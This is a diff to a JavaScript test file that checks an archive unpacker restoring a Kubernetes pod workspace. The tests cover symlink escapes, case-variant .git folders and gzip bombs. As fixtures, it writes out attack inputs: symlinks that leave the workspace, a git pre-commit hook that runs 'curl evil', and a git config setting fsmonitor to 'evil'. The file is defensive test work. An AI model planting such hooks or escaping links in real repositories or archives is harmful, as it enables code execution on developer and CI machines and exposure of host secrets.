@@ -127,10 +127,47 @@ test('more than the limit unpacked fails with a clear error (a gzip bomb stops t
   const { workspace } = sandbox();
   const bytes = await archive([{ name: 'zeros', content: '\0'.repeat(4 * 1024 * 1024) }]);
   assert.ok(bytes.length < 64 * 1024);
-  await assert.rejects(unpack(bytes, workspace, 1024 * 1024), /the pod's workspace is more than 1 MiB unpacked, the most the kubernetes executor takes back/);
+  await assert.rejects(unpack(bytes, workspace, 1024 * 1024), /the pod's workspace is more than 1.0 MiB unpacked, the most the kubernetes executor takes back/);
 });
 
 test('what is not gzip\'d tar fails with a clear error', async () => {
   const { workspace } = sandbox();
   await assert.rejects(unpack(Buffer.from('tar: /workspace: Cannot open: Permission denied\n'), workspace), /the pod's workspace archive is not a complete gzip'd tar/);
+});
+
+test('links that leave the workspace only together (d -> ., up -> d/..) are removed once all is written', async () => {
+  const { workspace, outside } = sandbox();
+  writeFileSync(join(outside, 'secret'), 'the runner host\'s\n');
+  mkdirSync(join(workspace, '.git'));
+  writeFileSync(join(workspace, '.git', 'config'), '[remote "origin"]\n');
+  const bytes = await archive([
+    { name: './d', type: 'symlink', linkname: '.' },
+    { name: './up', type: 'symlink', linkname: 'd/..' },
+    { name: './g', type: 'symlink', linkname: 'd/.git' },
+    { name: './nowhere', type: 'symlink', linkname: 'missing/file' },
+  ]);
+  const { warnings } = await unpack(bytes, workspace);
+  assert.equal(existsSync(join(workspace, 'up', 'outside', 'secret')), false, 'the workspace leads to the host file');
+  assert.equal(existsSync(join(workspace, 'g', 'config')), false, "the workspace leads into the runner's .git");
+  assert.deepEqual(readdirSync(workspace).sort(), ['.git', 'd']);
+  assert.equal(warnings.length, 3, warnings.join('\n'));
+  assert.ok(warnings.every((warning) => /does not lead to a file or folder in the workspace/.test(warning)), warnings.join('\n'));
+});
+
+test('.git in another case is left alone too (it is .git on a case-insensitive file system)', async () => {
+  const { workspace } = sandbox();
+  const bytes = await archive([
+    { name: './.GIT/hooks/pre-commit', content: '#!/bin/sh\ncurl evil\n', mode: 0o755 },
+    { name: './.Git/config', content: '[core]\n\tfsmonitor = evil\n' },
+    { name: './ok.txt', content: 'fine\n' },
+  ]);
+  await unpack(bytes, workspace);
+  assert.deepEqual(readdirSync(workspace), ['ok.txt']);
+});
+
+test('an endless run of empty gzip members is cut off at the limit, though it unpacks to nothing', async () => {
+  const { workspace } = sandbox();
+  const empty = gzipSync(Buffer.alloc(0));
+  const members = Buffer.concat(Array.from({ length: Math.ceil((64 * 1024) / empty.length) + 1 }, () => empty));
+  await assert.rejects(unpack(members, workspace, 64 * 1024), /more than 64.0 KiB packed/);
 });
